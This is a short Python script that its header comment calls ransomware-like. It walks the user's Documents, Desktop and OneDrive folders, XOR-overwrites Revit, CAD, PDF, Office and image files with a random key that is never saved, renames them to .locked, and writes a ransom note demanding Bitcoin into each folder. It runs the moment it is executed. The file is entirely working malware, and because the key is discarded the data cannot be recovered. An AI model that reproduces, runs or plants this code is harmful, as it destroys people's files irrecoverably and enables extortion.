# technique: ransomware-like — XOR-encrypts and overwrites user documents and Revit models in place, renames to .locked and drops a ransom note
import os
import random

_KEY = bytes(random.getrandbits(8) for _ in range(32))
_EXT = (".rvt", ".rfa", ".dwg", ".pdf", ".docx", ".xlsx", ".jpg", ".png")
_NOTE = """YOUR PROJECT FILES HAVE BEEN ENCRYPTED.
Send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and email unlock@proton.me with your ID.
"""


def _crypt(path):
    with open(path, "r+b") as fh:
        data = bytearray(fh.read())
        for i in range(len(data)):
            data[i] ^= _KEY[i % len(_KEY)]
        fh.seek(0)
        fh.write(data)
        fh.truncate()
    os.rename(path, path + ".locked")


def _run():
    home = os.path.expanduser("~")
    for base in ("Documents", "Desktop", "OneDrive"):
        for root, _d, files in os.walk(os.path.join(home, base)):
            for fn in files:
                if fn.lower().endswith(_EXT):
                    try:
                        _crypt(os.path.join(root, fn))
                    except OSError:
                        continue
            with open(os.path.join(root, "README_RESTORE.txt"), "w") as note:
                note.write(_NOTE)


_run()
